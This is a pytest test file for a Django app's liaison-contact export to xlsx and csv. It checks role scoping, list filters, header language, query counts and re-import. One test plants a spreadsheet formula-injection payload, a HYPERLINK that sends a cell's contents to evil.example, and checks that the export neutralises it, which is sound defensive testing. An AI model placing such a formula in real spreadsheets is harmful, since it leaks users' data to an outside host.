"""The liaison directory as .xlsx and .csv (cooperation.views.contact_export, through
members.exports): the list's filters and the user's scope, every cell formula-safe, and the
same few queries however many contacts there are."""

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from cooperation.views import PAGE_SIZE
from members.spreadsheets import FORMULA_STARTS
from tests.cooperation.factories import ContactFactory
from tests.members.test_exports import table

pytestmark = pytest.mark.django_db

EXPORT = reverse("cooperation:contacts_export")


@pytest.fixture(autouse=True)
def english(client):
    """Headers in English, to name the columns; one test asks for Chinese."""
    client.cookies["django_language"] = "en"


def by_name(rows):
    header = rows[0]
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_staff_export_their_own_and_the_partners_contacts(
    client, hz_staff, hz_contact, nb_contact, wz_contact, fmt
):
    nb_contact.counterpart = hz_contact
    nb_contact.save()
    client.force_login(hz_staff)
    rows = by_name(table(client.get(EXPORT, {"as": fmt})))
    assert set(rows) == {hz_contact.name, nb_contact.name}  # 温州 is outside the scope
    partner = rows[nb_contact.name]
    assert partner["Work telephone"] == nb_contact.phone  # a work number, as on the page
    assert partner["Level"] == "department"
    assert partner["Counterpart"].startswith(f"{hz_contact.name} · ")
    assert wz_contact.phone not in str(rows)


def test_the_outsider_exports_only_their_own(client, wz_staff, hz_contact, wz_contact):
    client.force_login(wz_staff)
    assert set(by_name(table(client.get(EXPORT)))) == {wz_contact.name}


def test_leaders_export_what_they_read(client, hz_leader, hz_contact, nb_contact, wz_contact):
    client.force_login(hz_leader)
    assert set(by_name(table(client.get(EXPORT)))) == {hz_contact.name, nb_contact.name}


def test_the_export_follows_the_lists_filters(client, hz_staff, hz, nb):
    ContactFactory(federation=hz, name="杭州部门", level="department")
    ContactFactory(federation=hz, name="杭州区县", level="district_union", department="上城区")
    ContactFactory(federation=nb, name="宁波区县", level="district_union")
    client.force_login(hz_staff)
    names = lambda query: set(by_name(table(client.get(EXPORT, query))))  # noqa: E731
    assert names({"level": "district_union"}) == {"杭州区县", "宁波区县"}
    assert names({"level": "district_union", "federation": "NB", "as": "csv"}) == {"宁波区县"}
    assert names({"q": "上城"}) == {"杭州区县"}


def test_the_headers_are_in_the_users_language(client, hz_staff, hz_contact):
    client.force_login(hz_staff)
    client.cookies["django_language"] = "zh-hans"
    rows = table(client.get(EXPORT, {"as": "csv"}))
    assert rows[0][:3] == ["姓名", "市总工会", "级别"]
    assert rows[1][2] == "部门"


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_formulas_are_neutralised(client, hz_staff, hz, start, fmt):
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    ContactFactory(federation=hz, name="对接人甲", title=evil, department=evil)
    client.force_login(hz_staff)
    row = by_name(table(client.get(EXPORT, {"as": fmt})))["对接人甲"]
    expected = "'" + evil
    if fmt == "xlsx":
        expected = expected.replace("\r", "\n")  # XML reads a carriage return back as \n
    assert row["Position"] == expected and row["Department or union"] == expected


def test_the_list_links_to_its_export_with_its_filters(client, hz_staff, hz_contact):
    client.force_login(hz_staff)
    page = client.get(reverse("cooperation:contacts"), {"level": "department", "page": "1"}).text
    assert f"{EXPORT}?level=department&amp;as=csv" in page


def test_judges_may_not_export_and_visitors_sign_in(client, hz_judge):
    assert client.get(EXPORT).url.startswith(reverse("login"))
    client.force_login(hz_judge)
    assert client.get(EXPORT).status_code == 403


def test_the_export_reads_in_a_constant_number_of_queries(
    client, hz_staff, hz, nb, django_assert_num_queries
):
    counterpart = ContactFactory(federation=nb)
    ContactFactory(federation=hz, counterpart=counterpart)
    client.force_login(hz_staff)
    with CaptureQueriesContext(connection) as two_rows:
        assert len(table(client.get(EXPORT, {"as": "csv"}))) == 3
    # More rows than a page, each with a counterpart and its federation to name.
    ContactFactory.create_batch(PAGE_SIZE + 5, federation=hz, counterpart=counterpart)
    with django_assert_num_queries(len(two_rows.captured_queries)):
        rows = table(client.get(EXPORT, {"as": "csv"}))
    assert len(rows) == PAGE_SIZE + 8


def test_an_exported_file_comes_back_in_with_update_existing(client, hz_staff, hz, hz_contact):
    """The import (cooperation/imports.py) reads the export's Chinese headers."""
    from members.imports import Context, get_spec, process
    from tests.members.spreadsheets import upload

    client.cookies["django_language"] = "zh-hans"
    client.force_login(hz_staff)
    response = client.get(EXPORT, {"federation": "HZ"})
    content = b"".join(response.streaming_content)
    ctx = Context(actor=hz_staff, federation=hz, update_existing=True)
    outcome = process(get_spec("contacts"), upload(content), "xlsx", ctx=ctx, write=True)
    assert (outcome.errors, outcome.created, outcome.updated) == ([], 0, 1)
